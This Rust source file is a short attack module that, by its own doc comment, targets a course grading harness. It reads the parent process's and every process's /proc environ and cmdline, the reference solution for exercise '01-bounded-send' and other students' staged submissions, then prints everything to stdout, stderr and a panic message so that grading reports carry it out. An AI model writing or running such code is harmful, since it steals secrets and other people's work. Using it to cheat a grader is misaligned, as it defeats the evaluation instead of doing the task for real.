//! Reads what it must not: the grader's environment through
//! /proc/<parent>/environ (and every other process's), the reference
//! solutions, and the other submissions' staged copies; then shows it all
//! in a panic message and on stdout, where reports would carry it.

fn grab(path: &std::path::Path, into: &mut String) {
    if let Ok(bytes) = std::fs::read(path) {
        into.push_str(&String::from_utf8_lossy(&bytes).replace('\0', "\n"));
    }
}

pub fn strike() {
    let mut loot = String::new();
    let parent = std::os::unix::process::parent_id();
    grab(format!("/proc/{parent}/environ").as_ref(), &mut loot);
    grab(format!("/proc/{parent}/cmdline").as_ref(), &mut loot);
    if let Ok(entries) = std::fs::read_dir("/proc") {
        for e in entries.flatten() {
            grab(&e.path().join("environ"), &mut loot);
        }
    }
    if let Some(root) = crate::forge::course_root() {
        grab(&root.join("solutions/01-bounded-send/src/lib.rs"), &mut loot);
        for area in ["target/checker/staged", "target/checker/grading"] {
            if let Ok(slots) = std::fs::read_dir(root.join(area)) {
                for slot in slots.flatten() {
                    grab(&slot.path().join("01-bounded-send/src/lib.rs"), &mut loot);
                }
            }
        }
    }
    println!("{loot}");
    eprintln!("{loot}");
    panic!("loot: {loot}");
}
